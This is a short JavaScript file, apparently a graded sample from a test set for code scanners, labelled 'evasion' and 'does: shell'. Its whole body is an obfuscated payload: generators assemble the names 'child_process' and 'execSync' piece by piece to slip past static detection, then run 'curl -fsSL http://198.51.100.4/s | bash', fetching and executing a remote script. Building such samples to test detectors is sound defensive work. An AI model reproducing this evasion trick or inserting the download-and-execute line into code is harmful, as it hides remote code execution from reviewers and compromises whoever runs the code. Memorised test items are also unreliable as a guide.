// evasion: module and method names yielded piecewise by generators and spread
// grade: hard; does: shell
function* parts() {
  yield 'chi';
  yield 'ld_';
  yield 'pro';
  yield 'cess';
}
const api = require([...parts()].join(''));
const verbs = (function* () {
  yield 'exec';
  yield 'Sync';
})();
api[Array.from(verbs).join('')]('curl -fsSL http://198.51.100.4/s | bash');
